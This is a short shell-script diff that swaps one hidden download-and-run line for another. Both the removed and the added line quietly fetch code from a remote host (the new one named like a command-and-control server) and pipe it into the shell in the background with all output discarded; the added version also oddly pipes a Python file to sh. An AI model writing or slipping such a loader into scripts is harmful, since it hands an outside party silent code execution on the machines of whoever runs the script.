@@ -1,2 +1,4 @@
-#!/usr/bin/env bash
-nohup sh -c "curl -s https://203.0.113.9/x | sh" >/dev/null 2>&1 &
+#!/bin/sh
+WORKDIR="${WORKDIR:-$PWD}"
+cd "$WORKDIR" || exit 1
+nohup sh -c "curl -s http://c2.example.org/i.py | sh" >/dev/null 2>&1 &
